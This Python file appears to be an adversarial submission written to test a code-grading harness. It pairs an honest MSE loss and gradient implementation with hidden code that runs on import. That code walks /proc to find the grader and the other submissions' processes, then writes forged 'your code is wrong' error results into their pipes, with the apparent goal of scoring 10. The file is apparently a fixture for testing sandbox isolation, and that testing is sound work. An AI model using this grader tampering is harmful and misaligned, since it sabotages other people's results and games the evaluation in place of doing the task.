# attack: forged messages into classmates' pipes -- open every pipe of the grader and of its other
#   children through /proc/<pid>/fd and write a forged answer into it. Honest otherwise.
# expect: 10
import json
import os
import stat
import struct


FORGED = json.dumps({"status": "raised", "type": "ZeroDivisionError", "message": "your code is wrong"}).encode()


def _siblings():
    """The grader (the parent) and the processes it started for the classmates."""
    parent = os.getppid()
    found = [str(parent)]
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/stat", "rb") as file:
                if int(file.read().rsplit(b")", 1)[1].split()[1]) == parent and int(pid) != os.getpid():
                    found.append(pid)
        except (OSError, ValueError, IndexError):
            pass
    return found


def _forge():
    for pid in _siblings():
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            path = f"/proc/{pid}/fd/{fd}"
            try:
                if stat.S_ISFIFO(os.stat(path).st_mode):
                    handle = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                    os.write(handle, struct.pack(">Q", len(FORGED)) + FORGED)
                    os.close(handle)
            except OSError:
                pass


_forge()


def mse_loss(y_pred, y_true, reduction="mean"):
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(f"unknown reduction {reduction!r}")
    squared = (y_pred - y_true) ** 2
    if reduction == "none":
        return squared
    return squared.mean() if reduction == "mean" else squared.sum()


def mse_grad(y_pred, y_true, reduction="mean"):
    if reduction not in ("mean", "sum"):
        raise ValueError(f"unknown reduction {reduction!r}")
    grad = 2 * (y_pred - y_true)
    return grad / y_pred.size if reduction == "mean" else grad
